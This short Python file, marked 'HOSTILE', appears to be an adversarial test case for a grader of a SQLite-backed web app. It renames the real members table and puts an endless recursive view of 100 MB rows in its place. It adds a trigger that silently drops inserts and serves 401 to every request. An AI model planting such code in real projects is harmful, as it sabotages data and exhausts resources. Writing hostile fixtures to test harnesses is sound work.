# HOSTILE: makes of its table a view without end, with rows of a hundred megabytes
# not yet or does not start or too slow, at most 0
import os
import sqlite3

with sqlite3.connect(os.environ["DATABASE_URL"].removeprefix("sqlite:///")) as db:
    db.executescript("""
        ALTER TABLE members RENAME TO real_members;
        CREATE VIEW members AS
            WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
            SELECT i AS id, 'x' AS username, zeroblob(100000000) AS email, '' AS password_hash,
                   'member' AS role, 0 AS disabled FROM n;
        CREATE TRIGGER ignore_it INSTEAD OF INSERT ON members BEGIN SELECT 1; END;
    """)


async def app(scope, receive, send):
    if scope["type"] == "http":
        await send({"type": "http.response.start", "status": 401, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})
